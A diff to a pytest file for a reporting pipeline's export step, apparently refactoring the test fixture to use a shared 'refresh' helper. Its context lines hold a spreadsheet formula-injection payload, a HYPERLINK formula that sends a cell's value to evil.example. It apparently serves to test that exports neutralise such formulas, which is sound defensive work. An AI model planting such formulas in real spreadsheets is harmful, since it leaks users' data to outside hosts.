@@ -11,9 +11,7 @@ import pytest
 
 from pipelines.reporting.export import export_marts, neutralised
 from pipelines.reporting.report_page import render
-from pipelines.store.update import update_store
-from pipelines.warehouse.build import build_warehouse
-from tests.conftest import RAW_DIR, SEED_WUQING
+from tests.conftest import RAW_DIR, SEED_WUQING, refresh
 
 FORMULAS = {
     "equals.txt": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -36,8 +34,7 @@ def exported(tmp_path_factory):
             json.dumps({"issuer": issuer, "jurisdiction": issuer}, ensure_ascii=False),
             encoding="utf-8",
         )
-    update_store(raw, root / "w.parsed")
-    warehouse = build_warehouse(root / "w.parsed", root / "w.duckdb").warehouse_path
+    warehouse = refresh(raw, root)[1].warehouse_path
     export_marts(warehouse, root / "export")
     return warehouse, root / "export"
 
